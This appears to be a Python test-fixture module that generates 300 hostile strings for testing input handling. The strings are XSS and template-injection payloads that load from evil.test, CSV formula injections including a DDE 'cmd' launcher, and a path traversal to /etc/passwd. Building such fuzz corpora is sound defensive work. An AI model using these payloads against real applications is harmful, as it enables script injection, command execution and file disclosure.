"""Three hundred names that try to become something else: markup, script, a request, a formula, a path, a formatting."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.__pwned=1"
AWAY: Final = "http://evil.test/x"

_MARKUP: Final = (
    f"<script>{RUN}</script>", f"<script src={AWAY}></script>", f"<img src=x onerror={RUN}>", f"<img src={AWAY}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>",
    f"<iframe src={AWAY}></iframe>", f"<iframe srcdoc='<script>top.{RUN}</script>'>", f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>", f"<link rel=stylesheet href={AWAY}>", f"<style>@import '{AWAY}'</style>",
    f"<video><source onerror={RUN}></video>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}' autofocus>a</a>", f"<form action={AWAY}><button autofocus>go</button></form>",
    f"<base href={AWAY}>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<math><mtext><style><img src=x onerror={RUN}></style>", f"<marquee onstart={RUN}>",
    f"<template><img src=x onerror={RUN}></template>", "<plaintext>", "<!--", "]]>",
    f"<?xml-stylesheet href='{AWAY}'?>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<audio src=x onerror=alert(1)>",
)  # fmt: skip
_SCRIPT: Final = (
    f"`;{RUN};`", f"${{{RUN}}}", f"';{RUN};'", f'";{RUN};"', f"\\';{RUN}//",
    "{{constructor.constructor('alert(1)')()}}",
    "@{told}{safe}", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", "$$\\alpha$$",
    "$\\frac{$", "\\(x\\)", "[[a]]", "__proto__", "constructor", "</textarea><script>alert(1)</script>",
)  # fmt: skip
_CELLS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.test")', "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
)  # fmt: skip
_ODD: Final = (
    "\u202egnp.exe", "a\u0000b", "\ufeffa", "a\u2028b", "e\u0301\u0301\u0301", "../../etc/passwd", "CON",
    "%s%n%d", "A" * 4000, "\u0007bell", "line\nbreak", "\U0001f5fa map",
)  # fmt: skip
_AROUND: Final = (
    "{}",
    '"><b x="{}',
    "'>{}",
    "</script>{}",
    "</title></style>{}",
    "--><p>{}",
    "\"'`{}`'\"",
    "<p id='{}'>",
)
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile() -> tuple[str, ...]:
    """Return 300 different hostile texts, always the same."""
    seeds = [*_MARKUP, *_SCRIPT]
    found = [*_CELLS, *_ODD]
    found += [around.replace("{}", seed) for around in _AROUND for seed in seeds]
    return tuple(dict.fromkeys(found))[:300]
